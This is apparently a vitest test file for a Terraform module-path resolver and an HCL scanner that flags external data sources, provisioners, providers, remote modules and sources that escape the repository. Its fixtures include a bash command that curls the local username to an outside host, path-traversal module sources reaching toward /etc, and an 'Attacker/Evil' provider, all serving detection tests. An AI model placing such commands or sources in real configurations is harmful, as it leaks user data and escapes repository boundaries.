import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  findStackPaths,
  HclError,
  type HclErrorCode,
  parseHclFile,
} from "../../../src/runner/local-modules.js";
import { scanHcl } from "../../../src/runner/scan-hcl.js";

let base: string;
let repo: string;

beforeEach(async () => {
  base = await mkdtemp(path.join(os.tmpdir(), "bosun-local-modules-"));
  repo = path.join(base, "repo");
  await mkdir(repo);
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

/** Writes files given as repo-relative path → content. */
async function tree(files: Record<string, string>, root = repo): Promise<void> {
  for (const [rel, content] of Object.entries(files)) {
    const file = path.join(root, rel);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, content);
  }
}

async function hclError(promise: Promise<unknown>): Promise<HclError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(HclError);
    return error as HclError;
  }
  throw new Error("expected an HclError, the call succeeded");
}

const mod = (name: string, source: string) => `module "${name}" {\n  source = "${source}"\n}\n`;

describe("findStackPaths", () => {
  it("follows local modules transitively, across cycles, in HCL and JSON files", async () => {
    await tree({
      "stacks/app/main.tf": [
        mod("net", "../../modules/net"),
        mod("registry", "terraform-aws-modules/vpc/aws"),
        mod("git", "git::https://example.com/x.git//mod?ref=v1"),
        mod("sub", "./sub/"),
      ].join("\n"),
      "stacks/app/variables.tf": 'variable "region" {\n  type = string\n}\n',
      "stacks/app/sub/x.tf.json": JSON.stringify({
        module: { deep: { source: "../../../modules/json" } },
      }),
      "modules/net/main.tf": mod("common", "../common"),
      "modules/common/main.tf": mod("back", "../net"),
      "modules/json/main.tofu": 'resource "null_resource" "x" {}\n',
      "modules/unused/main.tf": mod("never", "../net"),
      "stacks/other/main.tf": mod("x", "../../modules/unused"),
    });

    expect(await findStackPaths(repo, "stacks/app")).toEqual([
      "modules/common",
      "modules/json",
      "modules/net",
      "stacks/app",
      "stacks/app/sub",
    ]);
  });

  it("normalizes the stack directory it is given", async () => {
    await tree({ "stacks/app/main.tf": mod("net", "../../modules/net") });
    const expected = ["modules/net", "stacks/app"];
    expect(await findStackPaths(repo, "./stacks/app/")).toEqual(expected);
    expect(await findStackPaths(repo, "stacks/x/../app")).toEqual(expected);
  });

  it("uses '.' for a stack at the repository root", async () => {
    await tree({ "main.tf": mod("net", "./modules/net"), "modules/net/main.tf": "" });
    expect(await findStackPaths(repo, ".")).toEqual([".", "modules/net"]);
  });

  it("lists a module directory that does not exist without following it", async () => {
    await tree({ "stacks/app/main.tf": mod("gone", "../../modules/gone") });
    expect(await findStackPaths(repo, "stacks/app")).toEqual(["modules/gone", "stacks/app"]);
  });

  it("ignores editor backup and lock files, as Terraform does", async () => {
    await tree({
      "stacks/app/main.tf": "",
      "stacks/app/.#main.tf": "not { hcl",
      "stacks/app/main.tf~": "not { hcl",
      "stacks/app/#main.tf#": "not { hcl",
      "stacks/app/README.md": "not { hcl",
    });
    expect(await findStackPaths(repo, "stacks/app")).toEqual(["stacks/app"]);
  });

  it("lists a symbolic-linked module under its path and its target's", async () => {
    await tree({
      "stacks/app/main.tf": mod("net", "../../modules/net"),
      "common/net/main.tf": "",
    });
    await mkdir(path.join(repo, "modules"));
    await symlink("../common/net", path.join(repo, "modules/net"));
    expect(await findStackPaths(repo, "stacks/app")).toEqual([
      "common/net",
      "modules/net",
      "stacks/app",
    ]);
  });

  it.each([
    ["the parent of the repository", "../../.."],
    ["a sibling of the repository", "../../../outside"],
    ["far outside", "../../../../../../etc"],
    ["sibling directory with the repo's name as prefix", "../../../repo-evil/x"],
  ])("refuses a module source that resolves outside the repository: %s", async (_case, source) => {
    await tree({ "stacks/app/main.tf": mod("evil", source) });
    const error = await hclError(findStackPaths(repo, "stacks/app"));
    expect(error.code).toBe<HclErrorCode>("module-outside-repo");
    expect(error.file).toBe("stacks/app/main.tf");
    expect(error.message).toContain("stacks/app/main.tf");
    expect(error.message).toContain(`module "evil"`);
  });

  it("refuses a module outside the repository reached from a nested module", async () => {
    await tree({
      "main.tf": mod("a", "./modules/a"),
      "modules/a/main.tf": mod("escape", "../../../outside"),
    });
    const error = await hclError(findStackPaths(repo, "."));
    expect(error.code).toBe<HclErrorCode>("module-outside-repo");
    expect(error.file).toBe("modules/a/main.tf");
  });

  it("refuses a module directory that links outside the repository", async () => {
    await tree({ "stacks/app/main.tf": mod("net", "../../modules/net"), "../outside/main.tf": "" });
    await mkdir(path.join(repo, "modules"));
    await symlink(path.join(base, "outside"), path.join(repo, "modules/net"));
    const error = await hclError(findStackPaths(repo, "stacks/app"));
    expect(error.code).toBe<HclErrorCode>("module-outside-repo");
    expect(error.message).toContain("modules/net");
  });

  it("refuses an HCL file that links outside the repository", async () => {
    await tree({ "../outside.tf": "" });
    await mkdir(path.join(repo, "stacks/app"), { recursive: true });
    await symlink(path.join(base, "outside.tf"), path.join(repo, "stacks/app/main.tf"));
    const error = await hclError(findStackPaths(repo, "stacks/app"));
    expect(error.code).toBe<HclErrorCode>("outside-repo");
    expect(error.file).toBe("stacks/app/main.tf");
  });

  it("refuses a stack directory outside the repository, and one that does not exist", async () => {
    expect((await hclError(findStackPaths(repo, "../elsewhere"))).code).toBe<HclErrorCode>(
      "outside-repo",
    );
    expect((await hclError(findStackPaths(repo, "/etc"))).code).toBe<HclErrorCode>("outside-repo");
    const missing = await hclError(findStackPaths(repo, "stacks/missing"));
    expect(missing.code).toBe<HclErrorCode>("dir-not-found");
    expect(missing.message).toContain("stacks/missing");
  });

  it("names the file that has an HCL syntax error", async () => {
    await tree({
      "stacks/app/main.tf": mod("net", "../../modules/net"),
      "modules/net/broken.tf": 'resource "x" "y" {\n',
    });
    const error = await hclError(findStackPaths(repo, "stacks/app"));
    expect(error.code).toBe<HclErrorCode>("syntax");
    expect(error.file).toBe("modules/net/broken.tf");
    expect(error.message).toMatch(/^parsing modules\/net\/broken\.tf: /);
    expect(error.cause).toBeInstanceOf(Error);
  });

  it("names the file that has a JSON syntax error", async () => {
    await tree({ "stacks/app/main.tf.json": "{ nope" });
    const error = await hclError(findStackPaths(repo, "stacks/app"));
    expect(error.code).toBe<HclErrorCode>("syntax");
    expect(error.file).toBe("stacks/app/main.tf.json");
  });

  it("refuses a block with a shape Terraform would not accept", async () => {
    await tree({ "stacks/app/main.tf.json": JSON.stringify({ module: { x: "not a block" } }) });
    const error = await hclError(findStackPaths(repo, "stacks/app"));
    expect(error.code).toBe<HclErrorCode>("unexpected-structure");
    expect(error.message).toContain("stacks/app/main.tf.json");
  });
});

describe("parseHclFile", () => {
  it("returns blocks as lists, for HCL and for JSON files", async () => {
    await tree({
      "a.tf": mod("x", "./x"),
      "b.tf.json": JSON.stringify({ module: { x: { source: "./x" } } }),
    });
    const expected = { module: [{ x: [{ source: "./x" }] }] };
    expect(await parseHclFile(path.join(repo, "a.tf"))).toMatchObject(expected);
    expect(await parseHclFile(path.join(repo, "b.tf.json"))).toMatchObject(expected);
  });

  it("reports a missing file as read-failed under its display name", async () => {
    const error = await hclError(parseHclFile(path.join(repo, "nope.tf"), "nope.tf"));
    expect(error.code).toBe<HclErrorCode>("read-failed");
    expect(error.message).toContain("nope.tf");
  });
});

describe("scanHcl", () => {
  it("lists external data sources, provisioners and providers", async () => {
    await tree({
      "stacks/app/versions.tf": `
terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.0"
    }
    evil = {
      source = "Attacker/Evil"
    }
    random = "~> 3.0"
  }
}
`,
      "stacks/app/main.tf": `
provider "aws" {
  region = "eu-west-1"
}

provider "aws" {
  alias  = "us"
  region = "us-east-1"
}

provider "google" {}

data "external" "whoami" {
  program = ["bash", "-c", "curl https://example.com/$(id -un)"]
}

data "aws_caller_identity" "me" {}

resource "null_resource" "run" {
  provisioner "local-exec" {
    command = "echo hi"
  }

  provisioner "remote-exec" {
    inline = ["ls"]
  }
}

resource "aws_instance" "plain" {
  ami = "ami-123"
}
`,
      "modules/net/main.tf.json": JSON.stringify({
        data: { external: { json: { program: ["python3", "x.py"] } } },
        resource: {
          terraform_data: {
            t: { provisioner: [{ "local-exec": { command: "make" } }, { file: { source: "a" } }] },
          },
        },
      }),
    });

    const findings = await scanHcl(repo, ["stacks/app", "modules/net", "stacks/app/", "gone"]);
    expect(findings).toEqual([
      {
        kind: "external-data-source",
        file: "modules/net/main.tf.json",
        name: "data.external.json",
        detail: 'program = ["python3","x.py"]',
      },
      {
        kind: "local-exec",
        file: "modules/net/main.tf.json",
        name: "terraform_data.t",
        detail: 'command = "make"',
      },
      {
        kind: "provisioner",
        file: "modules/net/main.tf.json",
        name: "terraform_data.t",
        detail: "file",
      },
      {
        kind: "external-data-source",
        file: "stacks/app/main.tf",
        name: "data.external.whoami",
        detail: 'program = ["bash","-c","curl https://example.com/$(id -un)"]',
      },
      {
        kind: "local-exec",
        file: "stacks/app/main.tf",
        name: "null_resource.run",
        detail: 'command = "echo hi"',
      },
      {
        kind: "provisioner",
        file: "stacks/app/main.tf",
        name: "null_resource.run",
        detail: "remote-exec",
      },
      {
        kind: "provider",
        file: "stacks/app/main.tf",
        name: "hashicorp/aws",
        detail: 'provider "aws"',
      },
      {
        kind: "provider",
        file: "stacks/app/main.tf",
        name: "hashicorp/aws",
        detail: 'provider "aws" (alias us)',
      },
      {
        kind: "provider",
        file: "stacks/app/main.tf",
        name: "hashicorp/google",
        detail: 'provider "google"',
      },
      {
        kind: "provider",
        file: "stacks/app/versions.tf",
        name: "hashicorp/aws",
        detail: "required_providers aws ~> 5.0",
      },
      {
        kind: "provider",
        file: "stacks/app/versions.tf",
        name: "attacker/evil",
        detail: "required_providers evil",
      },
      {
        kind: "provider",
        file: "stacks/app/versions.tf",
        name: "hashicorp/random",
        detail: "required_providers random ~> 3.0",
      },
    ]);
  });

  it("lists every module whose source is not a local path", async () => {
    await tree({
      "main.tf": `
module "local" { source = "./modules/x" }
module "parent" { source = "../common" }
module "registry" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.0.0"
}
module "git" { source = "git::https://example.com/m.git?ref=v1" }
module "github" { source = "github.com/acme/module" }
module "bucket" { source = "s3::https://s3.amazonaws.com/b/m.zip" }
module "archive" { source = "https://example.com/m.tar.gz" }
module "absolute" { source = "/etc/terraform" }
`,
      "modules.tf.json": JSON.stringify({ module: { json: { source: "hashicorp/consul/aws" } } }),
    });
    const findings = await scanHcl(repo, ["."]);
    // hcl2json gives a file's blocks in label order.
    expect(findings.map(({ kind, name, detail }) => [kind, name, detail])).toEqual([
      ["remote-module", "module.absolute", 'source = "/etc/terraform"'],
      ["remote-module", "module.archive", 'source = "https://example.com/m.tar.gz"'],
      ["remote-module", "module.bucket", 'source = "s3::https://s3.amazonaws.com/b/m.zip"'],
      ["remote-module", "module.git", 'source = "git::https://example.com/m.git?ref=v1"'],
      ["remote-module", "module.github", 'source = "github.com/acme/module"'],
      ["remote-module", "module.registry", 'source = "terraform-aws-modules/vpc/aws"'],
      ["remote-module", "module.json", 'source = "hashicorp/consul/aws"'],
    ]);
    expect(new Set(findings.map((finding) => finding.file))).toEqual(
      new Set(["main.tf", "modules.tf.json"]),
    );
  });

  it("reports a file it cannot parse as a finding naming it, and scans the others", async () => {
    await tree({
      "a.tf": 'resource "null_resource" "x" {\n  triggers = {\n',
      "b.tf": 'data "external" "e" {\n  program = ["true"]\n}\n',
      "c.tofu": "}}}",
      "d.tf.json": "{not json",
      "e.tf": 'resource "null_resource" "y" {}\n',
    });
    const findings = await scanHcl(repo, ["."]);
    expect(findings.map(({ kind, file, name }) => [kind, file, name])).toEqual([
      ["unparsable", "a.tf", "a.tf"],
      ["external-data-source", "b.tf", "data.external.e"],
      ["unparsable", "c.tofu", "c.tofu"],
      ["unparsable", "d.tf.json", "d.tf.json"],
    ]);
    expect(findings[0]?.detail).toMatch(/^parsing a\.tf: /);
  });

  it("finds nothing in plain resources", async () => {
    await tree({ "main.tf": 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n' });
    expect(await scanHcl(repo, ["."])).toEqual([]);
  });

  it("refuses a directory outside the repository", async () => {
    const error = await hclError(scanHcl(repo, ["../"]));
    expect(error.code).toBe<HclErrorCode>("outside-repo");
  });
});
